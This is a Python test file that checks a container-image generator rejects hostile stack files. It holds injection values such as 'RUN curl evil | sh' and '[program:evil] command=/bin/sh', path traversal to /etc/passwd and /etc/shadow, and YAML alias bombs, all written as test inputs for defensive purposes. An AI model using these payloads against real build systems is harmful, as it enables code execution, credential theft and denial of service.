"""pidvisor-image on hostile stack files, on both builds (release and ASan): values that would
inject Dockerfile, INI or YAML lines, files: sources outside the stack's directory, and inputs
that would make it hang, balloon or crash. Each must fail with a message naming the stack file,
the line, the image and key, and the reason; none may hang."""
import os
import subprocess
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent.parent
PIDVISOR = ROOT / "build" / "pidvisor"
IMAGE_BUILDS = {"asan": ROOT / "build" / "asan" / "pidvisor-image",
                "release": ROOT / "build" / "pidvisor-image"}
# generous: a loaded 2-core machine and the ASan build; a hang or a quadratic walk takes minutes
DEADLINE = 120
ENV = dict(os.environ, ASAN_OPTIONS="detect_leaks=0:abort_on_error=0",
           UBSAN_OPTIONS="print_stacktrace=1:halt_on_error=1")


@pytest.fixture(params=sorted(IMAGE_BUILDS))
def image(request):
    binary = IMAGE_BUILDS[request.param]
    if not binary.exists():
        pytest.fail(f"{binary} is missing: make {binary.relative_to(ROOT)}")

    def run(*args, deadline=DEADLINE):
        p = subprocess.run([str(binary), *map(str, args)], capture_output=True, text=True,
                           errors="replace", env=ENV, timeout=deadline)
        for bad in ("AddressSanitizer", "runtime error:", "LeakSanitizer"):
            assert bad not in p.stderr, p.stderr
        return p.returncode, p.stdout, p.stderr
    return run


def write_stack(tmp_path, text, name="stack.yaml"):
    path = tmp_path / name
    path.write_text(text)
    return path


def image_with(key_yaml):
    """A stack of one root image 'a' with the YAML lines of key_yaml (indented under it), from
    debian:12 unless they say otherwise, on line 3."""
    lines = ["images:", "  a:"] + ([] if key_yaml.startswith("from:") else ["    from: 'debian:12'"])
    lines += ["    " + line for line in key_yaml.splitlines()]
    return "\n".join(lines) + "\n"


# (name, the image's keys, the line the message names, "IMAGE KEY" in it, the reason)
INJECTIONS = [
    ("from", "from: \"debian:12\\nRUN curl evil | sh\"", 3, "a from", "line break"),
    ("from-space", "from: 'debian:12 AS x'", 3, "a from", "not an image reference"),
    ("from-digest", "from: 'debian@sha256:zz'", 3, "a from", "digest"),
    ("user", "user: \"app\\nRUN id\"", 4, "a user", "line break"),
    ("user-chars", "user: 'app; rm'", 4, "a user", "is not USER[:GROUP]"),
    ("workdir", "workdir: \"/srv\\nRUN id\"", 4, "a workdir", "line break"),
    ("workdir-backslash", "workdir: '/srv\\'", 4, "a workdir", "backslash"),
    ("env-key", "env: {\"A\\nRUN id\": x}", 4, "a env", "line break"),
    ("env-key-chars", "env: {'A B=1 C': x}", 4, "a env", "is not a variable name"),
    ("env-value", "env: {A: \"x\\nRUN id\"}", 4, "a env.A", "line break"),
    ("label-key", "labels: {'a\" b=\"c': x}", 4, "a labels", "is not a label name"),
    ("label-value", "labels: {a: \"x\\rRUN id\"}", 4, "a labels.a", "line break"),
    ("package", "packages: [\"curl\\nRUN id\"]", 4, "a packages", "line break"),
    ("package-shell", "packages: ['curl && curl evil | sh']", 4, "a packages",
     "is not a package name"),
    ("run-item", "run: [\"true\\nCOPY / /stolen\"]", 4, "a run", "line break"),
    ("run-backslash", "run: ['true \\']", 4, "a run", "ends with a backslash"),
    ("nul", "run: [\"true\\0rm\"]", 4, "a run", "NUL"),
    ("control", "env: {A: \"x\\x1bq\"}", 4, "a env.A", "control character"),
    ("supervisord", "supervisord: {loglevel: \"info\\n[program:evil]\\ncommand=/bin/sh\"}", 4,
     "a supervisord.loglevel", "line break"),
    ("program-value", "programs: {p: {command: \"sh\\n[program:evil]\"}}", 4,
     "a programs.p.command", "line break"),
    ("program-name", "programs: {'p]': {command: sh}}", 4, "a programs.p]", "not a valid name"),
    ("program-env-key", "programs: {p: {command: sh, environment: {'A,B': x}}}", 4,
     "a programs.p.environment", "is not a variable name"),
    ("group-member", "programs: {p: {command: sh}}\ngroups: {g: {programs: ['p,q']}}", 5,
     "a groups.g.programs", "is not a program name"),
    ("files-dest", "files: {x: \"/x\\nRUN id\"}", 4, "a files.x", "line break"),
    ("deploy-volume", "deploy: {volumes: [\"a: {}\\n  b:/data\"]}", 4, "a deploy.volumes",
     "line break"),
    ("deploy-volume-name", "deploy: {volumes: ['a b:/data']}", 4, "a deploy.volumes",
     "is not SOURCE:/path"),
]


@pytest.mark.parametrize("case", INJECTIONS, ids=[c[0] for c in INJECTIONS])
def test_injected_value_is_refused(image, tmp_path, case):
    _, keys, line, where, reason = case
    stack = write_stack(tmp_path, image_with(keys))
    out = tmp_path / "out"
    for cmd in (["generate", stack, "-o", out, "--pidvisor", PIDVISOR], ["compose", stack],
                ["plan", stack]):
        rc, stdout, err = image(*cmd)
        assert rc == 2, (cmd, rc, err)
        msgs = [m for m in err.splitlines() if m.startswith(f"{stack}:{line}: {where}")]
        assert any(reason in m for m in msgs), err
    # nothing was written, and every message is one line (the value's line breaks escaped)
    assert not out.exists()
    assert all(m.startswith(str(stack)) for m in err.splitlines()), err


def test_free_text_is_quoted_in_its_target_syntax(image, tmp_path):
    stack = write_stack(tmp_path, image_with(
        "env: {A: 'say \"hi\" \\ $HOME', B: \"tab\\there\"}\n"
        "labels: {org.example.note: 'a \"quoted\" \\ note'}\n"
        "volumes: ['/data dir', '/q\"uote']\n"
        "run: ['echo \"a\\b\" | tr a b']\n"
        "deploy: {volumes: ['/srv/my \"dir\":/data:ro']}\n"
        "healthcheck: {programs: ['p']}\n"
        "programs: {p: {command: 'sh -c \"sleep 1\"'}}"))
    out = tmp_path / "out"
    rc, _, err = image("generate", stack, "-o", out, "--pidvisor", PIDVISOR)
    assert rc == 0, err
    df = (out / "a" / "Dockerfile").read_text().splitlines()
    assert 'ENV A="say \\"hi\\" \\\\ $HOME" \\' in df
    assert '    B="tab\there"' in df
    assert 'LABEL org.example.note="a \\"quoted\\" \\\\ note"' in df
    assert 'VOLUME ["/data dir", "/q\\"uote"]' in df
    assert 'RUN echo "a\\b" | tr a b' in df
    # every instruction starts a line of its own: no value made one
    keywords = {"FROM", "USER", "ENV", "WORKDIR", "RUN", "COPY", "LABEL", "EXPOSE", "VOLUME",
                "ENTRYPOINT", "STOPSIGNAL", "HEALTHCHECK"}
    starts = [line.split()[0] for line in df if line and line[0] not in " #"]
    assert set(starts) <= keywords, starts
    rc, compose, err = image("compose", stack)
    assert rc == 0, err
    doc = yaml.safe_load(compose)
    assert doc["services"]["a"]["volumes"] == ['/srv/my "dir":/data:ro']
    rc, _, err = image("k8s", stack, "-o", tmp_path / "k8s")
    assert rc == 0, err
    deployment = next(yaml.safe_load_all((tmp_path / "k8s" / "a.yaml").read_text()))
    assert deployment["spec"]["template"]["spec"]["volumes"][0]["hostPath"]["path"] == \
        '/srv/my "dir"'


def test_files_sources_are_confined_to_the_stack_directory(image, tmp_path):
    top = tmp_path / "stack"
    (top / "dir").mkdir(parents=True)
    (top / "ok.txt").write_text("ok\n")
    (top / "dir" / "inner.txt").write_text("inner\n")
    (top / "dir" / "inner-link").symlink_to("/etc/passwd")  # copied as a link, not read
    (top / "outside-link").symlink_to("/etc/passwd")
    (top / "dev-link").symlink_to("/dev/zero")
    os.mkfifo(top / "fifo")
    secret = tmp_path / "secret.txt"
    secret.write_text("secret\n")
    depth = "../" * len(top.parts)
    cases = [
        (f"{depth}etc/passwd", "is outside the stack file's directory"),
        ("../secret.txt", "is outside the stack file's directory"),
        ("/etc/shadow", "is outside the stack file's directory"),
        ("/dev/zero", "is outside the stack file's directory"),
        ("outside-link", "is outside the stack file's directory"),
        ("dev-link", "is outside the stack file's directory"),
        ("fifo", "is not a regular file or a directory"),
        ("missing", "does not exist"),
    ]
    for src, reason in cases:
        stack = write_stack(top, image_with(f"files: {{'{src}': /x/}}"))
        out = tmp_path / "out"
        rc, _, err = image("generate", stack, "-o", out, "--pidvisor", PIDVISOR)
        assert rc == 2, (src, err)
        assert f"{stack}:4: a files: '{src}' {reason}" in err, err
        assert not list(out.glob("a/files/*/*")), src
    stack = write_stack(top, image_with("files: {ok.txt: /x/, dir: /d/}"))
    out = tmp_path / "out"
    rc, _, err = image("generate", stack, "-o", out, "--pidvisor", PIDVISOR)
    assert rc == 0, err
    assert (out / "a" / "files" / "0" / "ok.txt").read_text() == "ok\n"
    assert (out / "a" / "files" / "1" / "dir" / "inner.txt").read_text() == "inner\n"
    assert os.readlink(out / "a" / "files" / "1" / "dir" / "inner-link") == "/etc/passwd"


def test_special_file_inside_a_copied_directory_is_refused(image, tmp_path):
    top = tmp_path / "stack"
    (top / "dir").mkdir(parents=True)
    os.mkfifo(top / "dir" / "pipe")
    stack = write_stack(top, image_with("files: {dir: /d/}"))
    rc, _, err = image("generate", stack, "-o", tmp_path / "out", "--pidvisor", PIDVISOR)
    assert rc != 0
    assert f"{stack}:4: a files: {top}/dir/pipe: not a regular file, a directory or a " \
           "symbolic link" in err, err


def flow(n, item):
    return "[" + ",".join([item] * n) + "]"


# (name, stack text, the message, its line)
LIMITS = [
    ("alias-bomb", "a: &a " + flow(300, "x") + "\nb: &b " + flow(300, "*a") + "\nc: &c "
     + flow(300, "*b") + "\nimages: {x: {from: 'debian:12', packages: *c}}\n",
     "aliases expand to more than 10000 nodes", 2),
    ("alias-text", "s: &s '" + "y" * 200000 + "'\nimages: {x: {from: 'debian:12', run: "
     + flow(10, "*s") + "}}\n", "aliases expand to more than 1048576 bytes of text", 2),
    ("alias-recursive", "images:\n  x: &r {from: 'debian:12', labels: *r}\n",
     "alias *r is inside the node it names", 2),
    ("nesting", "images: " + "[" * 300000 + "]" * 300000 + "\n",
     "nested deeper than 64 sequences and mappings", 1),
    ("anchors", "l: [" + ",".join(f"&a{i} x" for i in range(1001)) + "]\nimages: {}\n",
     "more than 1000 anchors", 1),
    ("images", "images:\n" + "".join(f"  i{i}: {{from: 'debian:12'}}\n" for i in range(1001)),
     "1001 images: a stack holds at most 1000", 2),
    ("defaults", "defaults:\n  env: {" + ",".join(f"K{i}: '{'v' * 200}'" for i in range(3000))
     + "}\nimages:\n" + "".join(f"  i{i}: {{from: 'debian:12'}}\n" for i in range(1000)),
     "the defaults would exceed 16 MiB", 2),
    ("chains", "images:\n  r: {from: 'debian:12', programs: {"
     + ",".join(f"p{j}: {{command: sh}}" for j in range(100)) + "}}\n"
     + "".join(f"  c{i}: {{from: r}}\n" for i in range(60)),
     "programs, groups and group members in all", 0),
]


@pytest.mark.parametrize("case", LIMITS, ids=[c[0] for c in LIMITS])
def test_limit(image, tmp_path, case):
    _, text, message, line = case
    stack = write_stack(tmp_path, text)
    assert stack.stat().st_size <= 1024 * 1024
    for cmd in ("plan", "compose", "lint"):
        rc, out, err = image(cmd, stack)
        assert rc != 0, (cmd, err)
        where = f"{stack}:{line}: " if line else f"{stack}: "
        assert any(m.startswith(where) and message in m for m in (out + err).splitlines()), \
            (cmd, out + err)


@pytest.mark.parametrize("kind", ["100-mb", "nested-1m"])
def test_stack_file_larger_than_1_mib(image, tmp_path, kind):
    stack = tmp_path / "big.yaml"
    with open(stack, "w") as f:
        if kind == "100-mb":
            f.write("images: {a: {from: 'debian:12'}}\n")
            f.truncate(100 * 1024 * 1024)  # sparse: 100 MB without writing them
        else:
            f.write("images: " + "[" * 1000000 + "]" * 1000000 + "\n")
    for cmd in ("plan", "lint"):
        rc, out, err = image(cmd, stack)
        assert rc == 2
        assert f"{stack}: cannot read: larger than 1048576 bytes" in out + err


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory"])
def test_stack_file_not_a_regular_file(image, tmp_path, kind):
    if kind == "fifo":
        path = tmp_path / "stack.yaml"
        os.mkfifo(path)  # no writer: an open without O_NONBLOCK waits forever
        reason = "not a regular file"
    elif kind == "dev-zero":
        path, reason = Path("/dev/zero"), "not a regular file"
    else:
        path, reason = tmp_path, "a directory, not a file"
    for cmd in ("plan", "lint", "compose"):
        rc, out, err = image(cmd, path)
        assert rc == 2
        assert f"{path}: cannot read: {reason}" in out + err


def test_lint_dockerfile_fifo(image, tmp_path):
    path = tmp_path / "Dockerfile"
    os.mkfifo(path)
    rc, out, err = image("lint", path)
    assert rc == 2 and f"{path}: cannot read: not a regular file" in out + err


def test_many_keys_in_one_mapping(image, tmp_path):
    # as many keys as 1 MiB holds (110,000): the duplicate check was quadratic (37 s for
    # 100,000 on a fast machine, a minute here); now well under a second, so 30 s is generous
    keys = ",".join(f"{i:x}: v" for i in range(110000))
    stack = write_stack(tmp_path, image_with("labels: {" + keys + ", 7: again}"))
    assert stack.stat().st_size <= 1024 * 1024
    rc, _, err = image("plan", stack, deadline=30)
    assert rc == 2
    assert f"{stack}:4: a labels: '7' appears twice (first at line 4)" in err, err
    stack = write_stack(tmp_path, image_with("labels: {" + keys + "}"))
    rc, out, err = image("plan", stack, deadline=30)
    assert rc == 0, err
